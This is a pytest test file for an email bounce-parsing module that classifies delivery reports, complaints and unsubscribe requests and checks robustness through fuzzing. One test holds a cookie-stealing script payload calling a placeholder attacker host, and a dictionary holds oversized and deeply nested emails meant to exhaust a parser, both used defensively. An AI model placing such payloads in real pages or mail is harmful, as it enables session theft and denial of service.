"""What came back is read: reports, complaints, wishes to leave, and all that is none of these."""

import random
from datetime import UTC, datetime, timedelta
from os import utime
from pathlib import Path
from time import thread_time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bulletin.deliver.returned import Returned, in_folder, kind_of, kind_of_answer, read
from bulletin.model import Answer, BounceKind, Reply

HERE = Path(__file__).with_name("returned")
SAMPLES = {path.stem: path.read_bytes() for path in sorted(HERE.glob("*.eml"))}
MESSAGE = "update-2026-12.managers.0123456789abcdef0123@example.nhs.uk"
TAG = (7, "0123456789abcdef")
TOKEN = "fedcba9876543210" + "0123456789abcdef" * 2
HARD, SOFT, OTHER = BounceKind.HARD, BounceKind.SOFT, BounceKind.OTHER

REPORTS = {
    "code_in_the_words_alone": (HARD, "5.1.1"),
    "exchange_access_denied": (SOFT, "5.4.1"),
    "exchange_bad_sender": (OTHER, "5.1.8"),
    "exchange_delayed": (OTHER, ""),
    "exchange_expired": (SOFT, "5.4.300"),
    "exchange_expired_queue": (SOFT, "4.4.7"),
    "exchange_no_such_recipient": (HARD, "5.1.10"),
    "exchange_not_allowed": (OTHER, "5.7.133"),
    "exchange_nothing_given_back": (HARD, "5.1.10"),
    "exchange_out_of_office": (OTHER, ""),
    "exchange_quota": (SOFT, "5.2.2"),
    "exchange_too_big": (OTHER, "5.3.4"),
    "exim_in_words": (HARD, "5.1.1"),
    "exim_no_reason": (SOFT, "5.0.0"),
    "exim_no_such_user": (HARD, "5.0.0"),
    "exim_warning_in_words": (OTHER, ""),
    "gmail_delayed": (OTHER, ""),
    "gmail_full": (SOFT, "4.2.2"),
    "gmail_unknown_user": (HARD, "5.1.1"),
    "laden_with_html": (HARD, "5.1.1"),
    "newer_type": (HARD, "5.1.1"),
    "opensmtpd_delayed": (OTHER, ""),
    "opensmtpd_content": (OTHER, "5.6.0"),
    "opensmtpd_expired": (SOFT, "5.0.0"),
    "opensmtpd_policy": (OTHER, "5.7.1"),
    "opensmtpd_unknown_user": (HARD, "5.1.1"),
    "postfix_delayed": (OTHER, ""),
    "postfix_delivered": (OTHER, ""),
    "postfix_expired": (SOFT, "4.4.1"),
    "postfix_headers_only": (HARD, "5.1.1"),
    "postfix_mailbox_full": (SOFT, "5.2.2"),
    "postfix_no_such_host": (SOFT, "5.4.4"),
    "postfix_policy": (OTHER, "5.7.1"),
    "postfix_relayed": (OTHER, ""),
    "postfix_unknown_user": (HARD, "5.1.1"),
    "qmail_expired": (SOFT, "4.4.1"),
    "qmail_unknown_user": (HARD, "5.1.1"),
    "qmail_without_a_code": (SOFT, ""),
    "sendmail_unknown_user": (HARD, "5.1.1"),
    "sendmail_warning": (OTHER, ""),
    "two_recipients": (HARD, "5.1.1"),
    "unknown_action": (OTHER, ""),
    "vacation": (OTHER, ""),
    "vacation_of_old": (OTHER, ""),
    "without_action": (HARD, "5.1.1"),
    "without_status": (SOFT, ""),
    "complaint": (BounceKind.COMPLAINT, ""),
    "complaint_opt_out": (BounceKind.COMPLAINT, ""),
    "feedback_not_spam": (OTHER, ""),
}
BY_TAG = {
    "complaint_with_tag_alone": BounceKind.COMPLAINT,
    "envelope_id_alone": HARD,
    "tagged_address_alone": HARD,
    "tagged_address_in_delivered_to": HARD,
}
LEAVES = {"leave", "leave_encoded", "leave_folded"}
WITHOUT_A_TRACE = {"leave_by_machine", "leave_from_nobody"}
NOTHING = {
    "bulletin_of_another_library",
    "leave_forwarded",
    "leave_from_a_list",
    "newsletter",
    "read_receipt",
    "reply_of_a_person",
    "report_within_a_forwarded_email",
}


def test_every_sample_is_told_of():
    assert {*REPORTS, *BY_TAG, *LEAVES, *WITHOUT_A_TRACE, *NOTHING} == set(SAMPLES)
    assert len(REPORTS) + len(BY_TAG) >= 40


@pytest.mark.parametrize(("name", "told"), REPORTS.items(), ids=REPORTS)
def test_a_report_tells_what_became_of_which_message(name, told):
    returned = read(SAMPLES[name])
    assert returned
    assert (returned.kind, returned.status, returned.message_ids) == (*told, (MESSAGE,))


@pytest.mark.parametrize(("name", "kind"), BY_TAG.items(), ids=BY_TAG)
def test_the_tag_of_our_return_address_names_the_delivery_where_nothing_else_does(name, kind):
    returned = read(SAMPLES[name])
    assert returned
    assert (returned.kind, returned.message_ids, returned.tags) == (kind, (), (TAG,))


@pytest.mark.parametrize("name", sorted(LEAVES))
def test_an_email_asks_to_leave_by_the_token_in_its_subject(name):
    assert read(SAMPLES[name]) == Returned(BounceKind.LEAVE, token=TOKEN)


@pytest.mark.parametrize("name", sorted(WITHOUT_A_TRACE))
def test_a_machine_makes_nobody_leave(name):
    assert read(SAMPLES[name]) == Returned(OTHER, words="an automatic answer")


@pytest.mark.parametrize("name", sorted(NOTHING))
def test_what_is_no_report_tells_nothing(name):
    assert read(SAMPLES[name]) is None


def test_nobody_s_address_and_no_control_character_is_in_the_words():
    words = [told.words for sample in SAMPLES.values() if (told := read(sample))]
    assert not [line for line in words if "@" in line or not line.isprintable() or len(line) > 200]


def test_markup_in_a_report_stays_what_was_written():
    told = read(SAMPLES["laden_with_html"])
    assert told
    assert told.words.startswith('550 5.1.1 <script>fetch("//evil.example/"+document.cookie)</script>')


@pytest.mark.parametrize(
    ("status", "kind"),
    [
        ("5.1.1", HARD),
        ("5.1.2", HARD),
        ("5.1.10", HARD),
        ("5.1.7", OTHER),
        ("5.2.1", SOFT),
        ("5.2.2", SOFT),
        ("5.4.4", SOFT),
        ("4.2.2", SOFT),
        ("4.7.0", SOFT),
        ("5.5.0", OTHER),
        ("5.6.0", OTHER),
        ("5.7.1", OTHER),
        ("5.7.515", OTHER),
        ("2.0.0", OTHER),
        ("", SOFT),
    ],
)
def test_a_code_says_something_of_the_reader_or_of_us(status, kind):
    assert kind_of(status) is kind


@pytest.mark.parametrize(
    ("answer", "kind"),
    [
        (Answer(Reply.GONE, 550, "5.1.1"), HARD),
        (Answer(Reply.GONE, 550), HARD),
        (Answer(Reply.GONE, 550, "5.1.8"), OTHER),
        (Answer(Reply.REFUSED, 552, "5.2.2"), SOFT),
        (Answer(Reply.REFUSED, 552), SOFT),
        (Answer(Reply.REFUSED, 554, "5.6.0"), OTHER),
        (Answer(Reply.REFUSED, 554), OTHER),
        (Answer(Reply.LATER, 451, "4.3.0"), SOFT),
        (Answer(Reply.LATER), SOFT),
        (Answer(Reply.POLICY, 550, "5.7.1"), OTHER),
        (Answer(Reply.STOP, 535), OTHER),
        (Answer(Reply.SLOWER, 432, "4.3.2"), OTHER),
        (Answer(Reply.TAKEN, 250), OTHER),
        (Answer(Reply.UNKNOWN), OTHER),
    ],
)
def test_the_server_s_last_word_counts_as_a_report_would(answer, kind):
    assert kind_of_answer(answer) is kind


SCRAPS = [b"", b"\n", b"\r", b"\0", b"\n\n", b"--b1", b"=?utf-8?B?", b";", b'"', b"\xff\xfe", b"\x80 \xc3"]


@given(st.binary(max_size=2000))
def test_no_bytes_raise(letter):
    read(letter)


@given(st.sampled_from(sorted(SAMPLES)), st.integers(0, 10**9))
def test_a_broken_report_raises_nothing(name, seed):
    chance = random.Random(seed)
    letter = bytearray(SAMPLES[name])
    for _ in range(chance.randint(1, 20)):
        place = chance.randrange(len(letter))
        letter[place : place + chance.randint(0, 30)] = chance.choice(SCRAPS)
    read(bytes(letter))


_REPORT = b'From: MAILER-DAEMON@x\nContent-Type: multipart/report; boundary="b"\n\n'
_NESTED = b"".join(b'Content-Type: multipart/mixed; boundary="n%d"\n\n--n%d\n' % (i, i) for i in range(1000))
HOSTILE = {
    "parts": _REPORT + b"--b\nContent-Type: message/delivery-status\n\nAction: failed\n\n" * 10_000,
    "nested": _NESTED + b"x\n" * 200_000,
    "nested_as_far_as_it_goes": b"\n".join(_NESTED.split(b"\n")[: 19 * 3]) + b"\n" + b"x\n" * 250_000,
    "emails_within_emails": b"Content-Type: message/rfc822\n\n" * 20_000,
    "one_line": b"From: MAILER-DAEMON@x\n\n" + b"a" * 2**21,
    "headers": b"".join(b"X-%d: a\n" % i for i in range(100_000)) + b"\n",
    "encoded_words": b"Subject: " + b"=?utf-8?B?" * 100_000 + b"\n\n",
    "blocks": _REPORT + b"--b\nContent-Type: message/delivery-status\n\n" + b"Action: failed\n\n" * 50_000,
    "parameters": b"Content-Type: multipart/mixed" + b'; a="b' * 100_000 + b"\n\n",
    "binary": bytes(range(256)) * 8192,
    "ids": b"From: MAILER-DAEMON@x\n\n" + b"message-id:   <a" * 100_000,
    "addresses": b"From: MAILER-DAEMON@x\nX-Failed-Recipients: a\n\n5.1.1 " + b"a@" * 100_000,
}


@pytest.mark.parametrize("name", HOSTILE)
def test_what_is_built_to_hurt_is_read_in_time(name):
    begin = thread_time()
    read(HOSTILE[name])
    assert thread_time() - begin < 5  # a tenth of that on a quiet machine


def test_a_report_that_gives_back_a_huge_email_is_read():
    huge = SAMPLES["postfix_unknown_user"].replace(b"Wexbridge Update\r\n\r\n--b1", b"x" * 2_000_000 + b"\r\n--b1")
    assert len(huge) > 2_000_000
    assert read(huge) == read(SAMPLES["postfix_unknown_user"])


def test_a_folder_gives_its_emails_oldest_first_and_nothing_else(tmp_path):
    now = datetime(2026, 12, 1, tzinfo=UTC)
    (tmp_path / "inner.eml").mkdir()
    for name, days in (("b.eml", 1), ("a.EML", 2), (".c.eml", 1), ("d.txt", 1), ("e.eml", 400)):
        (tmp_path / name).write_bytes(name.encode())
        then = int((now - timedelta(days=days)).timestamp())
        utime(tmp_path / name, (then, then))
    (tmp_path / "link.eml").symlink_to(tmp_path / "d.txt")
    assert list(in_folder(tmp_path, now - timedelta(days=365))) == [b"a.EML", b"b.eml"]


def test_a_file_that_cannot_be_opened_or_is_gone_stops_no_other(tmp_path, monkeypatch):
    for name in ("a.eml", "b.eml", "c.eml"):
        (tmp_path / name).write_bytes(name.encode())
    opened, looked_at = Path.open, Path.lstat

    def open_(path, *how):
        if path.name == "a.eml":
            raise PermissionError(path)
        return opened(path, *how)

    def lstat(path):
        if path.name == "b.eml":
            raise FileNotFoundError(path)
        return looked_at(path)

    monkeypatch.setattr(Path, "open", open_)
    monkeypatch.setattr(Path, "lstat", lstat)
    assert list(in_folder(tmp_path, datetime(2000, 1, 1, tzinfo=UTC))) == [b"c.eml"]
